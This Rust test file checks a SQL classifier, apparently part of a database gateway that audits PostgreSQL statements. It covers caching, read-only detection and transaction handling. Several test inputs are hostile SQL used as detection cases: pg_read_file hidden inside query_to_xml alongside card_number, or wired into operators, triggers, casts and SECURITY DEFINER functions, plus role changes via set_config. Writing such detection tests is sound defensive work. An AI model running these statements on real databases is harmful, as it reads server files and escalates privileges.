            "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (7, 1, 99, -4000, CURRENT_TIMESTAMP)",
        ],
        [
            "SELECT * FROM payments ORDER BY 1 LIMIT 10",
            "SELECT * FROM payments ORDER BY 2 LIMIT 500",
        ],
    ] {
        let first = cache.classify(texts[0]);
        let second = cache.classify(texts[1]);
        assert!(std::sync::Arc::ptr_eq(&first, &second), "{texts:?}");
        // The same facts, but for bounds on columns no predicate reads.
        let mut own = classify(texts[1]).statements;
        for facts in &mut own {
            facts.bounds.relations.values_mut().for_each(|c| c.clear());
        }
        assert_eq!(first.statements, own, "{texts:?}");
    }
}

/// Statements that differ only in numbers yet are classified differently:
/// whichever comes first, the other is classified from its own text.
#[test]
fn the_cache_never_carries_a_classification_to_other_numbers_that_change_it() {
    let pairs = [
        // The grammar reads FLOAT's precision: a type, or a syntax error.
        ("SELECT 1, x::float(10)", "SELECT 1, x::float(0)"),
        // ALTER … ALTER COLUMN n: the grammar checks n.
        (
            "ALTER TABLE t ALTER COLUMN 1 SET STATISTICS 100",
            "ALTER TABLE t ALTER COLUMN 0 SET STATISTICS 100",
        ),
        // An integer and a decimal are different tokens.
        ("SELECT x::varchar(5)", "SELECT x::varchar(5.5)"),
        // EXPLAIN's options are facts.
        (
            "EXPLAIN (ANALYZE 0) DELETE FROM t",
            "EXPLAIN (ANALYZE 1) DELETE FROM t",
        ),
        // A bound on a column a predicate rule reads.
        (
            "SELECT * FROM payments WHERE amount < 5",
            "SELECT * FROM payments WHERE amount < 50000",
        ),
        // Strings are kept: `'abc'` bounds nothing, `'5000'` does.
        (
            "SELECT * FROM payments WHERE amount > 'abc'",
            "SELECT * FROM payments WHERE amount > '5000'",
        ),
        // A syntax error's position moves with the literals before it.
        ("SELECT 1 FROM", "SELECT 100 FROM"),
    ];
    for (a, b) in pairs {
        assert_ne!(classify(a), classify(b), "{a} / {b}");
        for (first, second) in [(a, b), (b, a)] {
            let mut cache = ClassifyCache::new(64).with_predicate_columns(["amount"]);
            cache.classify(first);
            assert_eq!(
                *cache.classify(second),
                classify(second),
                "{second} after {first}"
            );
        }
    }
}

#[test]
fn statement_keys_ignore_layout_and_keep_everything_else() {
    use hoop_policy::statement_key;
    assert_eq!(
        statement_key("select  *\nfrom payments -- note\nwhere id = 1;"),
        statement_key("SELECT * FROM payments WHERE id = 1")
    );
    assert_ne!(
        statement_key("SELECT * FROM payments WHERE id = 1"),
        statement_key("SELECT * FROM payments WHERE id = 2")
    );
    assert_ne!(
        statement_key("SELECT 1"),
        statement_key("SELECT 1; SELECT 2")
    );
    assert!(statement_key("FROBNICATE  x").starts_with("text:FROBNICATE x"));
}

#[test]
fn executes_are_found_wherever_they_run() {
    let names = |sql: &str| -> Vec<String> {
        one(sql)
            .levels()
            .flat_map(|level| level.executes.clone())
            .collect()
    };
    assert_eq!(names("EXECUTE q(1)"), ["q"]);
    assert_eq!(names("EXPLAIN ANALYZE EXECUTE q"), ["q"]);
    assert_eq!(names("CREATE TABLE t AS EXECUTE q"), ["q"]);
    assert!(names("SELECT 1").is_empty());
}

#[test]
fn sql_text_given_to_query_to_xml_is_read_too() {
    let facts = one(
        "SELECT query_to_xml('select card_number, pg_read_file(''x'') from payments where amount < 5', true, false, '')",
    );
    assert_eq!(tables(&facts), ["public.payments"]);
    assert!(
        facts.functions.contains(&"pg_read_file".to_owned()),
        "{facts:?}"
    );
    assert!(facts.columns_read.contains(&"card_number".to_owned()));
    assert!(facts.bounds.of("public.payments", "amount").upper.is_some());
    let facts =
        one("SELECT query_to_xml('select set_config(''role'', ''x'', false)', true, false, '')");
    assert_eq!(facts.parameters, [Parameter::Named("role".to_owned())]);
    let facts = one("SELECT query_to_xml($1, true, false, '')");
    assert!(facts.tables.is_empty());
}

/// A deep parse tree (`1+1+…`, nested subqueries, `NOT NOT …`) never
/// overflows the caller's stack: a tokio worker has 2 MiB. What the parser
/// accepts is classified; deeper is refused with 54001, as the server
/// refuses it ("stack depth limit exceeded").
#[test]
fn deep_statements_never_overflow_the_callers_stack() {
    let cases = [
        format!("SELECT 1{}", "+1".repeat(60)),
        format!("SELECT 1{}", "+1".repeat(400)),
        format!("SELECT 1{}", "+1".repeat(1500)),
        format!("SELECT 1{}", "+1".repeat(50_000)),
        format!("SELECT {} 1 {}", "(SELECT ".repeat(300), ")".repeat(300)),
        format!("SELECT {}1{}", "ARRAY[".repeat(2000), "]".repeat(2000)),
        format!("SELECT {}x", "- ".repeat(5000)),
        format!("SELECT 1 WHERE {} true", "NOT ".repeat(5000)),
    ];
    let outcomes = std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(move || {
            cases
                .iter()
                .map(|sql| {
                    let classified = classify(sql);
                    let key = hoop_policy::statement_key(sql);
                    (classified, key.len())
                })
                .collect::<Vec<_>>()
        })
        .expect("thread")
        .join()
        .expect("no overflow");
    for (index, (classified, _)) in outcomes.iter().enumerate() {
        match classified.syntax_error() {
            None => assert_eq!(classified.statements[0].kind, Kind::Select, "case {index}"),
            Some(error) => {
                assert_eq!(error.sqlstate, "54001", "case {index}: {error:?}");
                assert!(
                    error.message.contains("stack depth"),
                    "case {index}: {error:?}"
                );
            }
        }
    }
    // What real statements hold is well within reach.
    assert!(outcomes[0].0.syntax_error().is_none());
    assert!(outcomes[1].0.syntax_error().is_none());
}

#[test]
fn a_cte_never_hides_the_table_a_statement_writes() {
    for sql in [
        "WITH payments AS (SELECT 1) DELETE FROM payments",
        "WITH payments AS (SELECT 1) UPDATE payments SET note = 'x' WHERE amount < 5",
        "WITH payments AS (SELECT 1) INSERT INTO payments (id) VALUES (1)",
        "WITH payments AS (SELECT 1) MERGE INTO payments p USING other o ON p.id = o.id WHEN MATCHED THEN DELETE",
        "WITH x AS (WITH payments AS (SELECT 1) DELETE FROM payments RETURNING 1) SELECT * FROM x",
    ] {
        let facts = one(sql);
        assert!(tables(&facts).contains(&"public.payments".to_owned()), "{sql}: {facts:?}");
    }
    let facts = one("WITH payments AS (SELECT 1) UPDATE payments SET note = 'x' WHERE amount < 5");
    assert!(facts.bounds.of("public.payments", "amount").upper.is_some());
}

#[test]
fn functions_named_for_later_calls_are_seen() {
    for sql in [
        "CREATE OPERATOR ### (PROCEDURE = pg_read_file, RIGHTARG = text)",
        "CREATE OPERATOR ### (FUNCTION = pg_catalog.pg_read_file, RIGHTARG = text)",
        "CREATE AGGREGATE a(text) (SFUNC = pg_read_file, STYPE = text)",
        "CREATE CAST (int AS text) WITH FUNCTION pg_read_file(int)",
        "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION pg_read_file()",
        "CREATE TRIGGER t BEFORE INSERT ON x FOR EACH ROW EXECUTE FUNCTION pg_read_file()",
        "GRANT EXECUTE ON FUNCTION pg_read_file(text) TO agent",
        "ALTER FUNCTION pg_read_file(text) SECURITY DEFINER",
    ] {
        let facts = one(sql);
        assert!(
            facts.functions.iter().any(|f| f.ends_with("pg_read_file")),
            "{sql}: {:?}",
            facts.functions
        );
    }
}

/// Only plain reads may run while their audit record is written.
#[test]
fn read_only_statements() {
    for sql in [
        "SELECT abalance FROM pgbench_accounts WHERE aid = $1",
        "select * from payments p join customers c on c.id = p.customer_id where p.amount > 10",
        "SELECT 1",
        "VALUES (1), (2)",
        "SELECT a FROM t UNION SELECT b FROM u",
        "SELECT * FROM t WHERE a IN (SELECT b FROM u) ORDER BY 1 LIMIT 5",
    ] {
        let facts = one(sql);
        assert!(facts.read_only, "{sql}: {facts:?}");
    }
    for sql in [
        "SELECT nextval('s')",
        "SELECT pg_terminate_backend(1)",
        "SELECT * FROM payments FOR UPDATE",
        "SELECT * FROM (SELECT * FROM payments FOR SHARE) s",
        "SELECT * INTO t2 FROM payments",
        "WITH d AS (DELETE FROM payments RETURNING *) SELECT * FROM d",
        "SELECT set_config('role', 'x', false)",
        "SELECT count(*) FROM payments",
        "INSERT INTO t VALUES (1)",
        "UPDATE t SET a = 1 WHERE b = 2",
        "EXPLAIN ANALYZE SELECT 1",
        "SHOW search_path",
    ] {
        assert!(!one(sql).read_only, "{sql}");
    }
}

/// What outlasts a transaction that does not commit (see `Lasting`): the
/// relay runs what waits for a commit while its record is written, inside
/// a transaction block, and records COMMIT before sending it.
#[test]
fn what_outlasts_a_transaction_that_does_not_commit() {
    use hoop_policy::Lasting as L;
    for (sql, lasting) in [
        ("SELECT abalance FROM pgbench_accounts WHERE aid = $1", L::Nothing),
        (
            "UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2",
            L::UntilCommit,
        ),
        (
            "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES ($1, $2, $3, $4, CURRENT_TIMESTAMP)",
            L::UntilCommit,
        ),
        ("DELETE FROM t WHERE a = 1 RETURNING *", L::UntilCommit),
        ("INSERT INTO t SELECT * FROM u ON CONFLICT DO NOTHING", L::UntilCommit),
        ("MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DELETE", L::UntilCommit),
        ("SELECT * FROM payments FOR UPDATE", L::UntilCommit),
        ("BEGIN", L::Begins),
        ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", L::Begins),
        ("SAVEPOINT a", L::Nothing),
        ("RELEASE SAVEPOINT a", L::Nothing),
        ("ROLLBACK TO SAVEPOINT a", L::Nothing),
        ("ROLLBACK", L::RollsBack { chain: false }),
        ("ABORT AND CHAIN", L::RollsBack { chain: true }),
        ("COMMIT", L::Maybe),
        ("END", L::Maybe),
        ("PREPARE TRANSACTION 'x'", L::Maybe),
        ("COMMIT PREPARED 'x'", L::Maybe),
        ("ROLLBACK PREPARED 'x'", L::Maybe),
        ("INSERT INTO t VALUES (nextval('s'))", L::Maybe),
        ("UPDATE t SET a = f(a)", L::Maybe),
        ("WITH d AS (DELETE FROM t RETURNING *) INSERT INTO u SELECT * FROM d", L::Maybe),
        ("SELECT * INTO t2 FROM payments", L::Maybe),
        ("UPDATE pg_settings SET setting = 'off' WHERE name = 'x'", L::Maybe),
        ("SELECT pg_terminate_backend(1)", L::Maybe),
        ("EXPLAIN ANALYZE UPDATE t SET a = 1", L::Maybe),
        ("COPY t FROM STDIN", L::Maybe),
        ("CREATE TABLE t2 (a int)", L::Maybe),
        ("TRUNCATE t", L::Maybe),
        ("LOCK TABLE t", L::Maybe),
        ("SET LOCAL work_mem = '1MB'", L::Maybe),
        ("CALL p()", L::Maybe),
        ("DO $$ BEGIN END $$", L::Maybe),
        ("NOTIFY c", L::Maybe),
        ("EXECUTE s", L::Maybe),
    ] {
        assert_eq!(one(sql).lasting, lasting, "{sql}");
    }
}

/// What a statement's calls leave out when the gateway knows them to be
/// built-in functions (see `StatementFacts::lasting_if_calls_are_stable_builtins`
/// and `may_change_code_if_calls_are_builtins`): only the calls themselves.
#[test]
fn calls_of_builtin_functions_are_weighed_apart() {
    use hoop_policy::Lasting as L;
    // (statement, lasting, lasting if its calls are stable built-ins, may
    // change code, ... if its calls are built-ins, the calls)
    for (sql, lasting, if_stable, changes, if_builtin, calls) in [
        (
            "SELECT count(*) FROM t",
            L::Maybe,
            L::Nothing,
            true,
            false,
            &["count"][..],
        ),
        (
            "SELECT lower(name), now() FROM t WHERE a = abs($1)",
            L::Maybe,
            L::Nothing,
            true,
            false,
            &["lower", "now", "abs"],
        ),
        ("SELECT a FROM t", L::Nothing, L::Nothing, false, false, &[]),
        (
            "SELECT lower(a) FROM t FOR UPDATE",
            L::Maybe,
            L::UntilCommit,
            true,
            false,
            &["lower"],
        ),
        (
            "UPDATE t SET a = pg_catalog.abs(a)",
            L::Maybe,
            L::UntilCommit,
            true,
            false,
            &["pg_catalog.abs"],
        ),
        // What the calls do not explain stays.
        (
            "SELECT set_config('a.b', 'c', false)",
            L::Maybe,
            L::Maybe,
            true,
            false,
            &["set_config"],
        ),
        (
            "WITH d AS (DELETE FROM t RETURNING *) SELECT count(*) FROM d",
            L::Maybe,
            L::Maybe,
            true,
            true,
            &["count"],
        ),
        (
            "SELECT count(*) INTO t2 FROM t",
            L::Maybe,
            L::Maybe,
            true,
            true,
            &["count"],
        ),
        (
            "CREATE VIEW v AS SELECT lower(a) FROM t",
            L::Maybe,
            L::Maybe,
            true,
            true,
            &["lower"],
        ),
        (
            "EXPLAIN SELECT upper(a) FROM t",
            L::Maybe,
            L::Maybe,
            true,
            false,
            &["upper"],
        ),
    ] {
        let facts = one(sql);
        assert_eq!(facts.lasting, lasting, "{sql}");
        assert_eq!(
            facts.lasting_if_calls_are_stable_builtins, if_stable,
            "{sql}"
        );
        assert_eq!(facts.may_change_code(), changes, "{sql}");
        assert_eq!(
            facts.may_change_code_if_calls_are_builtins(),
            if_builtin,
            "{sql}"
        );
        let named: std::collections::BTreeSet<&str> = facts.calls().collect();
        assert_eq!(named, calls.iter().copied().collect(), "{sql}");
    }
}

#[test]
fn statements_that_may_create_code_other_statements_run_unnamed() {
    // (statement, may create or change such code)
    for (sql, changes) in [
        ("SELECT a FROM t WHERE b = 1 ORDER BY a", false),
        ("SELECT * FROM payments FOR UPDATE", false),
        ("INSERT INTO t VALUES (1)", false),
        ("UPDATE t SET a = 1 WHERE b = 2", false),
        // pgbench's TPC-B insert: CURRENT_TIMESTAMP is no function call.
        (
            "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) \
             VALUES (1, 2, 3, 4, CURRENT_TIMESTAMP)",
            false,
        ),
        ("DELETE FROM t", false),
        ("COPY t FROM STDIN", false),
        ("BEGIN", false),
        ("COMMIT", false),
        ("SET search_path = app, public", false),
        ("SHOW work_mem", false),
        ("PREPARE p AS SELECT a FROM t", false),
        ("DEALLOCATE p", false),
        ("EXPLAIN SELECT a FROM t", false),
        ("DECLARE c CURSOR FOR SELECT a FROM t", false),
        ("FETCH 10 FROM c", false),
        ("LOCK TABLE t", false),
        ("SELECT lower(a) FROM t", true),
        ("INSERT INTO t VALUES (nextval('s'))", true),
        (
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            true,
        ),
        ("EXPLAIN ANALYZE SELECT a FROM t", true),
        ("EXECUTE p", true),
        (
            "CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = note)",
            true,
        ),
        ("CREATE VIEW v AS SELECT a FROM t", true),
        ("CREATE TABLE t2 (a int)", true),
        ("ALTER TABLE t ADD COLUMN c int DEFAULT 1", true),
        (
            "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
            true,
        ),
        ("CREATE EXTENSION dblink", true),
        ("DO $$ BEGIN END $$", true),
        ("CALL p()", true),
        ("VACUUM t", true),
    ] {
        let classified = hoop_policy::classify(sql);
        let [facts] = &classified.statements[..] else {
            panic!("{sql}: not one statement");
        };
        assert_eq!(facts.may_change_code(), changes, "{sql}");
    }
}

#[test]
fn a_query_string_waits_for_a_commit_only_if_every_statement_does() {
    use hoop_policy::Lasting;
    let of = |sql: &str| -> Vec<Lasting> {
        hoop_policy::classify(sql)
            .statements
            .iter()
            .map(|facts| facts.lasting)
            .collect()
    };
    // (query string, outside a transaction block, inside one)
    for (sql, outside, inside) in [
        ("SELECT 1", true, true),
        ("UPDATE t SET a = 1", false, true),
        ("BEGIN", true, true),
        ("BEGIN; UPDATE t SET a = 1; SAVEPOINT s", true, true),
        // Outside a block, a string of statements commits when it ends.
        ("UPDATE t SET a = 1; UPDATE u SET b = 2", false, true),
        ("UPDATE t SET a = 1; COMMIT", false, false),
        ("BEGIN; UPDATE t SET a = 1; COMMIT", false, false),
        ("ROLLBACK; UPDATE t SET a = 1", false, false),
        // Outside a block the server refuses AND CHAIN: nothing runs.
        ("ROLLBACK AND CHAIN; UPDATE t SET a = 1", true, true),
        ("UPDATE t SET a = 1; ROLLBACK", false, true),
        ("SELECT 1; CREATE TABLE x (a int)", false, false),
    ] {
        let statements = of(sql);
        assert_eq!(
            (
                Lasting::waits_for_commit(&statements, false),
                Lasting::waits_for_commit(&statements, true)
            ),
            (outside, inside),
            "{sql}: {statements:?}"
        );
    }
}

#[test]
fn statements_that_end_a_failed_transaction() {
    use hoop_policy::{in_failed_transaction, InFailedTransaction as F, TransactionExit as X};
    let rollback = F::Ends(X::Rollback, 1);
    let commit = F::Ends(X::Commit { chain: false }, 1);
    for (sql, exit) in [
        ("ROLLBACK", rollback),
        ("abort", rollback),
        ("ROLLBACK AND CHAIN", rollback),
        ("rollback to savepoint s1", rollback),
        ("ROLLBACK TO s1", rollback),
        ("COMMIT", commit),
        ("end transaction", commit),
        ("PREPARE TRANSACTION 'g'", commit),
        ("COMMIT AND CHAIN", F::Ends(X::Commit { chain: true }, 1)),
        ("ROLLBACK; SELECT 1", F::Ends(X::Rollback, 2)),
        (
            "/* c */ COMMIT; SELECT 1",
            F::Ends(X::Commit { chain: false }, 2),
        ),
        // Not exits: PostgreSQL refuses these in a failed transaction.
        ("SELECT 1; ROLLBACK", F::Refused),
        ("SAVEPOINT s1", F::Refused),
        ("RELEASE s1", F::Refused),
        ("BEGIN", F::Refused),
        ("COMMIT PREPARED 'g'", F::Refused),
        ("ROLLBACK PREPARED 'g'", F::Refused),
        ("ROLLBACK TO", F::Unparsed),
        ("bogus", F::Unparsed),
        ("", F::Empty),
        (";", F::Empty),
        ("-- nothing", F::Empty),
    ] {
        assert_eq!(
            in_failed_transaction(sql, hoop_policy::StringLiterals::Standard),
            exit,
            "{sql}"
        );
    }
}

#[test]
fn a_statement_of_a_known_shape_is_kept_under_its_text_only_when_prepared() {
    let mut cache = ClassifyCache::new(64).with_predicate_columns(["amount"]);
    let first = cache.classify("SELECT id FROM t WHERE id = 1");
    assert_eq!((cache.len(), cache.shapes()), (1, 1));
    // Another literal: the shape's classification, and no entry of its own.
    let other = cache.classify("SELECT id FROM t WHERE id = 2");
    assert!(std::sync::Arc::ptr_eq(&first, &other));
    assert_eq!(cache.len(), 1);
    // A prepared statement's text comes again with every Execute: kept.
    let prepared = cache.classify_prepared(
        "SELECT id FROM t WHERE id = 3",
        hoop_policy::StringLiterals::Standard,
    );
    assert!(std::sync::Arc::ptr_eq(&first, &prepared));
    assert_eq!((cache.len(), cache.shapes()), (2, 1));
    // A text without a shape is kept under its text either way.
    cache.classify_in("SELECT id FROM t", hoop_policy::StringLiterals::Standard);
    assert_eq!(cache.len(), 3);
}
